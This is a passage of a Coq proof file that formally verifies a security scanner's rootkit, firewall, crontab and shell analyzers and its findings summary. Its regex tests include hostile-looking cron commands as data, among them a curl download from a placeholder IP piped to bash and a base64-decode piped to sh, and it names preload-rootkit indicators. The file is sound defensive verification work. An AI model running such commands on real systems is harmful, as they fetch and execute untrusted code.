    RootkitAnalyzer.analyze data
    = RootkitAnalyzer.preloadFinding
        (libraryLines (split newline content)) content (js "RK-001")
      :: others
    /\ hasPreloadFinding others = false
    /\ length others
       = length (default [] (RootkitAnalyzer.suspiciousSoFiles data))
         + (if default false (RootkitAnalyzer.etcDataExists data)
            then 1 else 0).
Proof.
  cbv zeta. intros Hne. unfold RootkitAnalyzer.analyze. cbv zeta.
  destruct (trim (default [] (RootkitAnalyzer.ldPreload data)))
    as [|c content] eqn:Hcontent; [congruence|].
  change (0 <? length (c :: content)) with true. cbv iota.
  rewrite preloadEntriesOf_libraryLines.
  set (first := RootkitAnalyzer.preloadFinding _ _).
  destruct (fold_push_each RootkitAnalyzer.prefix RootkitAnalyzer.soFinding
              (default [] (RootkitAnalyzer.suspiciousSoFiles data))
              (push RootkitAnalyzer.prefix first emitter0))
    as (new & Hnew & Hfor).
  assert (Hso : hasPreloadFinding new = false).
  { clear Hnew. induction Hfor as [|x f xs fs [i ->] _ IH]; [reflexivity|].
    cbn [hasPreloadFinding existsb]. fold (hasPreloadFinding fs).
    rewrite IH. reflexivity. }
  pose proof (Forall2_length _ _ _ Hfor) as Hlen.
  destruct (default false (RootkitAnalyzer.etcDataExists data)).
  - rewrite push_emitted, Hnew, push_emitted. cbn [emitted emitter0 app].
    eexists. split; [reflexivity|].
    rewrite hasPreloadFinding_app, Hso, length_app. cbn [length].
    split; [reflexivity | lia].
  - rewrite Hnew, push_emitted. cbn [emitted emitter0 app].
    eexists. split; [reflexivity|]. split; [exact Hso | lia].
Qed.

(** C5 (amended): the rootkit analyzer emits its CRITICAL LD_PRELOAD finding
    exactly when the trimmed content of the preload file is not empty
    (comment lines count as content). The finding then comes first in the
    output, no other finding is an LD_PRELOAD finding, and its
    [details.entries] are the library lines of the trimmed content: its
    lines, each trimmed, without those that are then empty or start with #,
    in their order. When these are exactly one line, and there is no
    suspicious library and no malware directory, the finding is the whole
    output and its entries are that line; so it is for the content
    /etc/data/libsystem.so. *)
Theorem C5_preload_finding :
  (forall data : RootkitAnalyzer.Data,
     hasPreloadFinding (RootkitAnalyzer.analyze data)
     = (0 <? length (trim (default [] (RootkitAnalyzer.ldPreload data)))))
  /\ (forall data : RootkitAnalyzer.Data,
        let content := trim (default [] (RootkitAnalyzer.ldPreload data)) in
        content <> [] ->
        exists (f : Finding) (others : list Finding),
          RootkitAnalyzer.analyze data = f :: others
          /\ severity f = CRITICAL
          /\ title f = PRELOAD_TITLE
          /\ details f
             = Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                           (js "entries",
                            JStrs (libraryLines (split newline content)));
                           (js "rawContent", JStr content)])
          /\ hasPreloadFinding others = false
          /\ length others
             = length (default [] (RootkitAnalyzer.suspiciousSoFiles data))
               + (if default false (RootkitAnalyzer.etcDataExists data)
                  then 1 else 0))
  /\ (forall (lines : list jsstring) (entry : jsstring),
        In entry (libraryLines lines) <->
        exists l, In l lines /\ entry = trim l /\ entry <> []
                  /\ startsWith entry (js "#") = false)
  /\ (forall (data : RootkitAnalyzer.Data) (line : jsstring),
        let content := trim (default [] (RootkitAnalyzer.ldPreload data)) in
        libraryLines (split newline content) = [line] ->
        default [] (RootkitAnalyzer.suspiciousSoFiles data) = [] ->
        default false (RootkitAnalyzer.etcDataExists data) = false ->
        exists f : Finding,
          RootkitAnalyzer.analyze data = [f]
          /\ severity f = CRITICAL
          /\ title f = PRELOAD_TITLE
          /\ details f
             = Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                           (js "entries", JStrs [line]);
                           (js "rawContent", JStr content)]))
  /\ libraryLines (split newline (trim (js "/etc/data/libsystem.so")))
     = [js "/etc/data/libsystem.so"].
Proof.
  split; [|split; [|split; [|split; [|reflexivity]]]].
  - intros data. unfold RootkitAnalyzer.analyze.
    set (content := trim (default [] (RootkitAnalyzer.ldPreload data))).
    set (e1 := if 0 <? length content then _ else emitter0).
    set (e2 := fold_left _ _ e1).
    assert (H1 : hasPreloadFinding (emitted e1) = (0 <? length content)).
    { unfold e1. destruct (0 <? length content); reflexivity. }
    assert (H2 : hasPreloadFinding (emitted e2) = (0 <? length content)).
    { unfold e2. rewrite (fold_emitted_invariant hasPreloadFinding);
        [exact H1|].
      intros e x. rewrite push_emitted, hasPreloadFinding_app.
      cbn. rewrite orb_false_r. reflexivity. }
    destruct (default false (RootkitAnalyzer.etcDataExists data)); [|exact H2].
    rewrite push_emitted, hasPreloadFinding_app, H2.
    cbn. rewrite orb_false_r. reflexivity.
  - intros data content Hne.
    destruct (rootkit_output_with_preload data Hne) as (others & -> & Ho & Hl).
    eexists _, others. split; [reflexivity|].
    repeat split; assumption.
  - exact libraryLines_In.
  - intros data line content Hline Hso Hdir.
    assert (Hne : content <> []).
    { intros Hnil. rewrite Hnil in Hline. discriminate Hline. }
    destruct (rootkit_output_with_preload data Hne) as (others & -> & _ & Hl).
    rewrite Hso, Hdir in Hl. destruct others; [|discriminate Hl].
    eexists. split; [reflexivity|]. fold content. rewrite Hline.
    repeat split.
Qed.

(** A preload file with a comment, a blank line and the library
    /etc/data/libsystem.so, indented: one finding, with that one entry. *)
Lemma C5_preload_finding_witness :
  let text := js "# preload" ++ [newline; newline]
              ++ js "  /etc/data/libsystem.so " ++ [newline] in
  let data := RootkitAnalyzer.mkData (Some text) None None None in
  libraryLines (split newline (trim text)) = [js "/etc/data/libsystem.so"]
  /\ exists f : Finding,
       RootkitAnalyzer.analyze data = [f]
       /\ severity f = CRITICAL
       /\ title f = PRELOAD_TITLE
       /\ details f
          = Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                        (js "entries", JStrs [js "/etc/data/libsystem.so"]);
                        (js "rawContent", JStr (trim text))]).
Proof.
  cbv zeta. split; [reflexivity|].
  apply (proj1 (proj2 (proj2 (proj2 C5_preload_finding)))
           (RootkitAnalyzer.mkData
              (Some (js "# preload" ++ [newline; newline]
                     ++ js "  /etc/data/libsystem.so " ++ [newline]))
              None None None)
           (js "/etc/data/libsystem.so"));
    reflexivity.
Defined.

(** C5, as stated, fails: a preload file that holds only a comment has no
    non-empty, non-comment content (its one line starts with #), and the
    analyzer still emits the CRITICAL LD_PRELOAD finding, with no entries. *)
Lemma C5_counterexample :
  let content := js "# libprocesshider.so disabled" in
  split newline (trim content) = [content]
  /\ startsWith content (js "#") = true
  /\ libraryLines (split newline (trim content)) = []
  /\ RootkitAnalyzer.preloadEntriesOf (trim content) = []
  /\ map (fun f => (severity f, title f, id f, details f))
         (RootkitAnalyzer.analyze
            (RootkitAnalyzer.mkData (Some content) None None None))
     = [(CRITICAL, PRELOAD_TITLE, js "RK-001",
         Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                     (js "entries", JStrs []);
                     (js "rawContent", JStr content)]))].
Proof. repeat split. Qed.

Lemma isSshOpenToAll_inactive (ufw : FirewallAnalyzer.UfwData)
  (iptables : jsstring) :
  FirewallAnalyzer.active ufw = false ->
  FirewallAnalyzer.isSshOpenToAll ufw iptables = true.
Proof.
  intros H. unfold FirewallAnalyzer.isSshOpenToAll. rewrite H. cbn.
  destruct (_ && _); reflexivity.
Qed.

(** C6: when UFW is not active (or its data is missing), whatever the
    fail2ban data and the iptables text, the firewall analyzer finds SSH open
    to all, and its output starts with the HIGH finding "UFW firewall is not
    active" and ends with the MEDIUM finding "SSH is not restricted by
    firewall". *)
Theorem C6_inactive_ufw (toLowerCase : jsstring -> jsstring)
  (data : FirewallAnalyzer.Data) :
  FirewallAnalyzer.active
    (default (FirewallAnalyzer.mkUfwData false []) (FirewallAnalyzer.ufw data))
  = false ->
  let fs := FirewallAnalyzer.analyze toLowerCase data in
  exists (f1 f2 : Finding) (middle : list Finding),
    fs = f1 :: middle ++ [f2]
    /\ In f1 fs /\ In f2 fs
    /\ severity f1 = HIGH /\ title f1 = js "UFW firewall is not active"
    /\ severity f2 = MEDIUM
    /\ title f2 = js "SSH is not restricted by firewall".
Proof.
  intros Hactive. cbn zeta. unfold FirewallAnalyzer.analyze.
  rewrite (isSshOpenToAll_inactive _ _ Hactive), Hactive.
  cbn [negb].
  set (e2 := if negb _ then _ else _).
  assert (H2 : exists middle,
             emitted e2
             = FirewallAnalyzer.ufwInactiveFinding (js "FW-001") :: middle).
  { unfold e2.
    destruct (negb (FirewallAnalyzer.running _)); [eexists; reflexivity|].
    destruct (negb (existsb _ _)); eexists; reflexivity. }
  destruct H2 as [middle H2].
  rewrite push_emitted, H2.
  eexists _, _, middle. split; [reflexivity|].
  split; [left; reflexivity|].
  split; [right; apply in_or_app; right; left; reflexivity|].
  repeat split.
Qed.

(** UFW inactive and an iptables listing whose INPUT policy is DROP. *)
Lemma C6_inactive_ufw_witness :
  let data :=
    FirewallAnalyzer.mkData
      (Some (FirewallAnalyzer.mkUfwData false (js "Status: inactive")))
      None
      (Some (js "Chain INPUT (policy DROP)")) in
  FirewallAnalyzer.active
    (default (FirewallAnalyzer.mkUfwData false []) (FirewallAnalyzer.ufw data))
  = false
  /\ exists (f1 f2 : Finding) (middle : list Finding),
       FirewallAnalyzer.analyze asciiLower data = f1 :: middle ++ [f2]
       /\ In f1 (FirewallAnalyzer.analyze asciiLower data)
       /\ In f2 (FirewallAnalyzer.analyze asciiLower data)
       /\ severity f1 = HIGH /\ title f1 = js "UFW firewall is not active"
       /\ severity f2 = MEDIUM
       /\ title f2 = js "SSH is not restricted by firewall".
Proof.
  cbn zeta. split; [reflexivity|].
  apply (C6_inactive_ufw asciiLower
           (FirewallAnalyzer.mkData
              (Some (FirewallAnalyzer.mkUfwData false (js "Status: inactive")))
              None
              (Some (js "Chain INPUT (policy DROP)")))).
  reflexivity.
Defined.

(** *** Quoted text in descriptions *)

Lemma truncate_short (s : jsstring) (max : nat) :
  length s <= max -> truncate s max = s.
Proof.
  intros H. unfold truncate.
  destruct (Nat.ltb_spec max (length s)); [lia | reflexivity].
Qed.

Lemma truncate_long (s : jsstring) (max : nat) :
  max < length s ->
  truncate s max = firstn max s ++ js "..."
  /\ length (truncate s max) = max + 3.
Proof.
  intros H. unfold truncate, slice0.
  destruct (Nat.ltb_spec max (length s)); [|lia].
  split; [reflexivity|].
  rewrite length_app, length_firstn. cbn. lia.
Qed.

(** A loop that pushes one finding per element emits them in order. *)
Lemma analyzeLine_emitted (source : CrontabAnalyzer.Source) (i : nat)
  (raw : jsstring) (e : Emitter) (f : Finding) :
  In f (emitted (CrontabAnalyzer.analyzeLine source i raw e)) ->
  In f (emitted e) \/ lineFinding source i (trim raw) f.
Proof.
  unfold CrontabAnalyzer.analyzeLine, lineFinding.
  set (line := trim raw).
  destruct (_ || _); [intros H; left; exact H|].
  destruct (RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE line) eqn:Hd;
    destruct (RegExp.test CrontabAnalyzer.BASE64_RE line) eqn:Hb;
    destruct (RegExp.exec CrontabAnalyzer.TMP_EXEC_RE line) as [t|] eqn:Ht;
    destruct (RegExp.exec CrontabAnalyzer.HIDDEN_DIR_EXEC_RE line) as [h|] eqn:Hh;
    intros H;
    repeat (rewrite push_emitted in H; apply in_app_or in H;
            destruct H as [H | [<- | []]]);
    solve [ left; exact H
          | right; eexists; left; split; [reflexivity | reflexivity]
          | right; eexists; right; left; split; [reflexivity | reflexivity]
          | right; eexists; right; right; left; eexists; split; reflexivity
          | right; eexists; right; right; right; eexists; split; reflexivity ].
Qed.

Lemma analyzeLines_emitted (source : CrontabAnalyzer.Source)
  (lines : list jsstring) (i : nat) (e : Emitter) (f : Finding) :
  In f (emitted (CrontabAnalyzer.analyzeLines source i lines e)) ->
  In f (emitted e)
  \/ exists (j : nat) (raw : jsstring),
       lines !! j = Some raw /\ lineFinding source (i + j) (trim raw) f.
Proof.
  revert i e. induction lines as [|raw lines IH]; intros i e H.
  - left. exact H.
  - cbn [CrontabAnalyzer.analyzeLines] in H.
    destruct (IH _ _ H) as [H' | (j & raw' & Hj & Hf)].
    + destruct (analyzeLine_emitted _ _ _ _ _ H') as [He | Hf].
      * left. exact He.
      * right. exists 0, raw. rewrite Nat.add_0_r. split; [reflexivity | exact Hf].
    + right. exists (S j), raw'. split; [exact Hj|].
      replace (i + S j) with (S i + j) by lia. exact Hf.
Qed.

Lemma analyzeSources_emitted (sources : list CrontabAnalyzer.Source)
  (e : Emitter) (f : Finding) :
  In f (emitted (fold_left CrontabAnalyzer.analyzeSource sources e)) ->
  In f (emitted e)
  \/ exists (source : CrontabAnalyzer.Source) (j : nat) (raw : jsstring),
       In source sources
       /\ split newline (CrontabAnalyzer.content source) !! j = Some raw
       /\ lineFinding source j (trim raw) f.
Proof.
  revert e. induction sources as [|source sources IH]; intros e H.
  - left. exact H.
  - cbn [fold_left] in H.
    destruct (IH _ H) as [H' | (s & j & raw & Hs & Hj & Hf)].
    + unfold CrontabAnalyzer.analyzeSource in H'.
      destruct (analyzeLines_emitted _ _ _ _ _ H') as [He | (j & raw & Hj & Hf)].
      * left. exact He.
      * right. exists source, j, raw. split; [left; reflexivity|]. split; assumption.
    + right. exists s, j, raw. split; [right; exact Hs|]. split; assumption.
Qed.

Ltac quoted_at pre :=
  exists pre; eexists;
  cbn [description concat]; rewrite <- ?app_assoc; reflexivity.

(** C8 (amended): [truncate(s, max)] leaves a text of at most [max]
    characters as it is and cuts a longer one to its first [max] characters
    followed by three dots. The shell analyzer quotes the trimmed line of
    each entry through [truncate(_, 150)]. The crontab analyzer reports, for
    a trimmed line of a source, only its four kinds of finding: the download
    and base64 findings quote the line through [truncate(_, 120)], the
    temporary-directory and hidden-directory findings quote the matched path
    whole. *)
Theorem C8_quoted_text_truncation :
  (forall (s : jsstring) (max : nat),
     (length s <= max -> truncate s max = s)
     /\ (max < length s ->
         truncate s max = firstn max s ++ js "..."
         /\ length (truncate s max) = max + 3))
  /\ (forall (toLowerCase : jsstring -> jsstring) (data : ShellAnalyzer.Data),
        Forall2
          (fun entry f =>
             description f
             = ShellAnalyzer.describe entry
                 (ShellAnalyzer.describePattern toLowerCase
                    (ShellAnalyzer.matchedPattern entry))
                 (truncate (trim (ShellAnalyzer.line entry)) 150))
          (default [] (ShellAnalyzer.suspiciousEntries data))
          (ShellAnalyzer.analyze toLowerCase data))
  /\ (forall entry category quoted,
        quotes quoted (ShellAnalyzer.describe entry category quoted))
  /\ (forall (data : CrontabAnalyzer.Data) (f : Finding),
        In f (CrontabAnalyzer.analyze data) ->
        exists (source : CrontabAnalyzer.Source) (j : nat) (raw : jsstring),
          In source (CrontabAnalyzer.sourcesOf data)
          /\ split newline (CrontabAnalyzer.content source) !! j = Some raw
          /\ lineFinding source j (trim raw) f)
  /\ (forall source i line m0 fid,
        quotes (truncate line 120)
               (description (CrontabAnalyzer.downloadFinding source i line fid))
        /\ quotes (truncate line 120)
                  (description (CrontabAnalyzer.base64Finding source i line fid))
        /\ quotes m0
                  (description (CrontabAnalyzer.tmpFinding source i line m0 fid))
        /\ quotes m0
                  (description
                     (CrontabAnalyzer.hiddenFinding source i line m0 fid))).
Proof.
  split; [|split; [|split; [|split]]].
  - intros s max. split; [apply truncate_short | apply truncate_long].
  - intros toLowerCase data. unfold ShellAnalyzer.analyze.
    destruct (fold_push_each ShellAnalyzer.prefix
                (ShellAnalyzer.entryFinding toLowerCase)
                (default [] (ShellAnalyzer.suspiciousEntries data)) emitter0)
      as (new & -> & Hfor).
    cbn [emitted emitter0 app].
    eapply Forall2_impl; [exact Hfor|].
    intros entry f [i ->]. reflexivity.
  - intros entry category quoted. unfold ShellAnalyzer.describe.
    quoted_at (js "File " ++ dq ++ ShellAnalyzer.file entry ++ dq
               ++ js " line "
               ++ String_number (ShellAnalyzer.lineNumber entry)
               ++ js " contains a " ++ category ++ js " pattern (" ++ dq
               ++ ShellAnalyzer.matchedPattern entry ++ dq ++ js "): ").
  - intros data f H. unfold CrontabAnalyzer.analyze in H.
    destruct (analyzeSources_emitted _ _ _ H) as [[] | Hf]. exact Hf.
  - intros source i line m0 fid. repeat split.
    + quoted_at (js "Entry in " ++ CrontabAnalyzer.label source
                 ++ js " (line " ++ String_nat (i + 1)
                 ++ js ") pipes a download command directly to a shell interpreter: ").
    + quoted_at (js "Entry in " ++ CrontabAnalyzer.label source
                 ++ js " (line " ++ String_nat (i + 1)
                 ++ js ") uses base64 decoding: ").
    + quoted_at (js "Entry in " ++ CrontabAnalyzer.label source
                 ++ js " (line " ++ String_nat (i + 1)
                 ++ js ") references a path in a temporary directory: ").
    + quoted_at (js "Entry in " ++ CrontabAnalyzer.label source
                 ++ js " (line " ++ String_nat (i + 1)
                 ++ js ") references a hidden directory path: ").
Qed.

(** A line of 249 characters is cut to 150 characters and three dots. *)
Lemma C8_quoted_text_truncation_witness :
  150 < length longDownloadLine
  /\ truncate longDownloadLine 150 = firstn 150 longDownloadLine ++ js "..."
  /\ length (truncate longDownloadLine 150) = 150 + 3.
Proof.
  assert (H : 150 < length longDownloadLine) by (vm_compute; lia).
  split; [exact H|].
  exact (proj2 (proj1 C8_quoted_text_truncation longDownloadLine 150) H).
Defined.

(** C8, as stated, fails on crontab lines: the download finding quotes the
    first 120 characters of the line (and three dots), not the first 150, and
    the temporary-directory finding quotes a path of 205 characters whole. *)
Lemma C8_counterexample :
  length longDownloadLine = 249
  /\ map description
         (CrontabAnalyzer.analyze
            (CrontabAnalyzer.mkData (Some longDownloadLine) None None None))
     = [concat
          [js "Entry in root crontab (line 1) pipes a download command directly to a shell interpreter: ";
           dq; firstn 120 longDownloadLine; js "..."; dq;
           js ". This is the most common malware persistence technique via cron."]]
  /\ map description
         (CrontabAnalyzer.analyze
            (CrontabAnalyzer.mkData (Some longTmpLine) None None None))
     = [concat
          [js "Entry in root crontab (line 1) references a path in a temporary directory: ";
           dq; js "/tmp/" ++ repeat 97%N 200; dq;
           js ". Legitimate cron jobs should not execute from /tmp, /var/tmp, or /dev/shm."]]
  /\ length (js "/tmp/" ++ repeat 97%N 200) = 205.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The embedding on concrete inputs *)

Example nextId_format :
  fst (nextId (js "CRON") (mkEmitter [] 6)) = js "CRON-007".
Proof. reflexivity. Qed.

Example nextId_beyond_three_digits :
  fst (nextId (js "NET") (mkEmitter [] 999)) = js "NET-1000".
Proof. reflexivity. Qed.

Example trim_strips_both_ends :
  trim (js "   /usr/lib/libfoo.so  ") = js "/usr/lib/libfoo.so".
Proof. reflexivity. Qed.

Example split_keeps_empty_pieces :
  split newline [97%N; 10%N; 10%N; 98%N; 10%N] = [[97%N]; []; [98%N]; []].
Proof. reflexivity. Qed.

Example download_pipe_matches :
  RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE
              (js "*/5 * * * * CURL -fsSL http://203.0.113.9/i.sh |  bash")
  = true.
Proof. reflexivity. Qed.

Example download_pipe_needs_word_boundary :
  RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE
              (js "0 3 * * * curlx http://203.0.113.9/i.sh | bash")
  = false
  /\ RegExp.test CrontabAnalyzer.DOWNLOAD_PIPE_RE
                 (js "0 3 * * * curl http://203.0.113.9/i.sh | bashful")
     = false.
Proof. split; reflexivity. Qed.

Example base64_decode_matches :
  RegExp.test CrontabAnalyzer.BASE64_RE (js "echo aGk= | base64  --decode | sh")
  = true
  /\ RegExp.test CrontabAnalyzer.BASE64_RE (js "base64 /etc/hostname") = false.
Proof. split; reflexivity. Qed.

Example tmp_exec_leftmost_path :
  RegExp.exec CrontabAnalyzer.TMP_EXEC_RE
              (js "* * * * * /var/tmp/.x/run --quiet /tmp/y")
  = Some (js "/var/tmp/.x/run").
Proof. reflexivity. Qed.

Example hidden_dir_exec_path :
  RegExp.exec CrontabAnalyzer.HIDDEN_DIR_EXEC_RE
              (js "@reboot /home/u/.cache/kworker -d")
  = Some (js "/.cache/kworker").
Proof. reflexivity. Qed.

Example assignment_line_is_skipped :
  CrontabAnalyzer.analyze
    (CrontabAnalyzer.mkData (Some (js "SHELL=/tmp/sh")) None None None) = [].
Proof. reflexivity. Qed.

Example ufw_rule_open_to_anywhere :
  FirewallAnalyzer.isSshOpenToAll
    (FirewallAnalyzer.mkUfwData true
       (js "Status: active" ++ [newline]
        ++ js "22/tcp                     ALLOW IN    Anywhere"))
    [] = true
  /\ FirewallAnalyzer.isSshOpenToAll
       (FirewallAnalyzer.mkUfwData true
          (js "Status: active" ++ [newline]
           ++ js "22/tcp                     ALLOW IN    10.0.0.0/8"))
       [] = false.
Proof. split; reflexivity. Qed.

Example shell_severity_classes :
  ShellAnalyzer.classifySeverity asciiLower (js "CURL") = HIGH
  /\ ShellAnalyzer.classifySeverity asciiLower (js "python.*http") = MEDIUM
  /\ ShellAnalyzer.classifySeverity asciiLower (js "unknown") = HIGH.
Proof. repeat split. Qed.

(** ** More on the summary *)

Lemma maxSeverity_highestPresent (fs : list Finding) :
  maxSeverity (buildSummary fs) = highestPresent fs.
Proof.
  unfold buildSummary, highestPresent.
  pose proof (fold_countStep_max fs (mkCounts 0 0 0 0 0) INFO) as H.
  destruct (fold_left countStep fs (mkCounts 0 0 0 0 0, INFO)) as [c m].
  cbn [snd] in H. cbn [maxSeverity]. rewrite H.
  destruct (present CRITICAL fs), (present HIGH fs), (present MEDIUM fs),
    (present LOW fs); reflexivity.
Qed.

Lemma present_spec (s : Severity) (fs : list Finding) :
  present s fs = true <-> exists f, In f fs /\ severity f = s.
Proof.
  unfold present. rewrite existsb_exists.
  split; intros (f & Hin & Hf); exists f; (split; [exact Hin|]).
  - destruct (severity f), s; try discriminate Hf; reflexivity.
  - rewrite Hf. destruct s; reflexivity.
Qed.

(** The summary as a record of counts and presences. *)
Lemma buildSummary_eq (fs : list Finding) :
  buildSummary fs
  = mkSummary (length fs) (countOf CRITICAL fs) (countOf HIGH fs)
              (countOf MEDIUM fs) (countOf LOW fs) (countOf INFO fs)
              (statusOf (tally fs)) (highestPresent fs).
Proof.
  pose proof (maxSeverity_highestPresent fs) as Hmax.
  destruct (buildSummary_counts fs) as (Hc & Hh & Hm & Hl & Hi & Ht & Hs).
  destruct (buildSummary fs); cbn in *. congruence.
Qed.

(** X1: the maxSeverity of a summary is the maximum of the severities of
    the findings: no finding is above it, and unless the list is empty some
    finding has it (for an empty list it is INFO). *)
Theorem X1_maxSeverity_is_maximum (fs : list Finding) :
  Forall (fun f => (Severity_value (severity f)
                    <= Severity_value (maxSeverity (buildSummary fs)))%Z) fs
  /\ ((fs = [] /\ maxSeverity (buildSummary fs) = INFO)
      \/ exists f, In f fs /\ severity f = maxSeverity (buildSummary fs)).
Proof.
  rewrite maxSeverity_highestPresent. split.
  - apply List.Forall_forall. intros f Hin.
    assert (Hp : present (severity f) fs = true)
      by (apply present_spec; exists f; auto).
    unfold highestPresent.
    destruct (severity f); rewrite ?Hp;
      destruct (present CRITICAL fs), (present HIGH fs), (present MEDIUM fs),
        (present LOW fs); cbn; lia.
  - unfold highestPresent.
    destruct (present CRITICAL fs) eqn:Hc;
      [right; apply present_spec, Hc|].
    destruct (present HIGH fs) eqn:Hh; [right; apply present_spec, Hh|].
    destruct (present MEDIUM fs) eqn:Hm; [right; apply present_spec, Hm|].
    destruct (present LOW fs) eqn:Hl; [right; apply present_spec, Hl|].
    destruct fs as [|f fs]; [left; split; reflexivity|].
    right. exists f. split; [left; reflexivity|].
    destruct (severity f) eqn:Hf; [reflexivity| | | |].
    + assert (present LOW (f :: fs) = true)
        by (apply present_spec; exists f; split; [left; reflexivity | exact Hf]).
      congruence.
    + assert (present MEDIUM (f :: fs) = true)
        by (apply present_spec; exists f; split; [left; reflexivity | exact Hf]).
      congruence.
    + assert (present HIGH (f :: fs) = true)
        by (apply present_spec; exists f; split; [left; reflexivity | exact Hf]).
      congruence.
    + assert (present CRITICAL (f :: fs) = true)
        by (apply present_spec; exists f; split; [left; reflexivity | exact Hf]).
      congruence.
Qed.

(** X2: status and maxSeverity of a summary agree: COMPROMISED goes with
    CRITICAL, THREATS_FOUND with HIGH, WARNINGS with MEDIUM, and a LOW
    maximum gives INFORMATIONAL; with maxSeverity INFO the status is CLEAN
    when there is no finding and INFORMATIONAL otherwise. The status is
    CLEAN exactly when the list of findings is empty. *)
Theorem X2_status_follows_maxSeverity (fs : list Finding) :
  status (buildSummary fs)
  = match maxSeverity (buildSummary fs) with
    | CRITICAL => COMPROMISED
    | HIGH => THREATS_FOUND
    | MEDIUM => WARNINGS
    | LOW => INFORMATIONAL
    | INFO => match fs with [] => CLEAN | _ :: _ => INFORMATIONAL end
    end
  /\ (status (buildSummary fs) = CLEAN <-> fs = []).
Proof.
  rewrite buildSummary_eq. cbn [status maxSeverity].
  unfold statusOf, tally, highestPresent.
  cbn [c_critical c_high c_medium c_low c_info]. rewrite !countOf_pos.
  assert (Hpres : fs <> [] ->
            present CRITICAL fs || present HIGH fs || present MEDIUM fs
            || present LOW fs || present INFO fs = true).
  { destruct fs as [|f fs]; [congruence|]. intros _.
    unfold present. cbn [existsb]. destruct (severity f); cbn;
      rewrite ?orb_true_r; reflexivity. }
  destruct fs as [|f fs]; [split; [reflexivity | split; reflexivity]|].
  specialize (Hpres ltac:(discriminate)).
  destruct (present CRITICAL (f :: fs)), (present HIGH (f :: fs)),
    (present MEDIUM (f :: fs)), (present LOW (f :: fs)),
    (present INFO (f :: fs)); cbn in Hpres |- *;
    try discriminate Hpres; (split; [reflexivity | split; discriminate]).
Qed.

Lemma countOf_Permutation (s : Severity) (fs fs' : list Finding) :
  Permutation fs fs' -> countOf s fs = countOf s fs'.
Proof.
  unfold countOf. induction 1 as [|f l l' _ IH|f g l|l l' l'' _ IH1 _ IH2].
  - reflexivity.
  - cbn [List.filter]. destruct (Severity_eqb (severity f) s); cbn; lia.
  - cbn [List.filter].
    destruct (Severity_eqb (severity f) s), (Severity_eqb (severity g) s);
      reflexivity.
  - lia.
Qed.

(** X3: the summary does not depend on the order of the findings. *)
Theorem X3_summary_order_insensitive (fs fs' : list Finding) :
  Permutation fs fs' -> buildSummary fs = buildSummary fs'.
Proof.
  intros H. rewrite !buildSummary_eq.
  unfold highestPresent, tally. rewrite <- !countOf_pos.
  rewrite !(countOf_Permutation _ fs fs' H), (Permutation_length H).
  reflexivity.
Qed.

(** A HIGH finding before or after an INFO finding: the same summary. *)
Lemma X3_summary_order_insensitive_witness :
  Permutation [withSeverity HIGH; withSeverity INFO]
              [withSeverity INFO; withSeverity HIGH]
  /\ buildSummary [withSeverity HIGH; withSeverity INFO]
     = buildSummary [withSeverity INFO; withSeverity HIGH].
Proof.
  assert (H : Permutation [withSeverity HIGH; withSeverity INFO]
                          [withSeverity INFO; withSeverity HIGH])
    by apply perm_swap.
  split; [exact H | exact (X3_summary_order_insensitive _ _ H)].
Defined.

(** X4: summaries compose: the summary of two lists of findings put
    together has the sums of their counts, and as maxSeverity the higher of
    their two. *)
Theorem X4_summary_of_concatenation (fs1 fs2 : list Finding) :
  let s := buildSummary (fs1 ++ fs2) in
  let s1 := buildSummary fs1 in
  let s2 := buildSummary fs2 in
  total s = total s1 + total s2
  /\ critical s = critical s1 + critical s2
  /\ high s = high s1 + high s2
  /\ medium s = medium s1 + medium s2
  /\ low s = low s1 + low s2
  /\ info s = info s1 + info s2
  /\ maxSeverity s = sevMax (maxSeverity s1) (maxSeverity s2).
Proof.
  cbn zeta. rewrite !buildSummary_eq.
  cbn [total critical high medium low info maxSeverity].
  rewrite !countOf_app, length_app. repeat split.
  unfold highestPresent, present. rewrite !existsb_app.
  fold (present CRITICAL fs1) (present CRITICAL fs2) (present HIGH fs1)
    (present HIGH fs2) (present MEDIUM fs1) (present MEDIUM fs2)
    (present LOW fs1) (present LOW fs2).
  destruct (present CRITICAL fs1), (present CRITICAL fs2), (present HIGH fs1),
    (present HIGH fs2), (present MEDIUM fs1), (present MEDIUM fs2),
    (present LOW fs1), (present LOW fs2); reflexivity.
Qed.

(** ** More on the orchestrator *)

Section LoopFacts.

Import Scanner.

Variable COLLECTOR_REGISTRY : gmap jsstring BaseCollector.
Variable ANALYZER_REGISTRY : gmap jsstring BaseAnalyzer.
Variable threatDB : ThreatDB.t.
Variable platform : PlatformInfo.
Variable now : nat -> Z.
Variable toISOString : Z -> jsstring.

Local Abbreviation attempt :=
  (attempt COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB).
Local Abbreviation runModule :=
  (runModule COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now).
Local Abbreviation run :=
  (run COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB platform now toISOString).

Lemma fold_runModule_explicit (ms : list jsstring) (st : RunState) :
  let st' := fold_left runModule ms st in
  moduleResults st' = moduleResults st ++ resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now (clock st) ms
  /\ allFindings st'
     = allFindings st ++ concat (map findings (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now (clock st) ms))
  /\ signals st'
     = signals st ++ concat (map signalsOf (resultsFrom COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB now (clock st) ms))
  /\ clock st' = clock st + 2 * length ms.
Proof.
  revert st. induction ms as [|m ms IH]; intros st.
  - cbn. rewrite !app_nil_r. repeat split. lia.
  - cbn [fold_left]. destruct (IH (runModule st m)) as (Hr & Hf & Hs & Hc).
    cbn zeta. rewrite Hr, Hf, Hs, Hc. clear Hr Hf Hs Hc.
    cbn [resultsFrom map concat length].
    unfold Scanner.runModule. destruct (attempt m) as [[fs raw] err].
    cbn [moduleResults allFindings signals clock fst snd findings].
    rewrite <- !app_assoc. repeat split. lia.
Qed.


Lemma resultsFrom_time (k : nat) (ms : list jsstring) :
  (forall a b : nat, a <= b -> (now a <= now b)%Z) ->
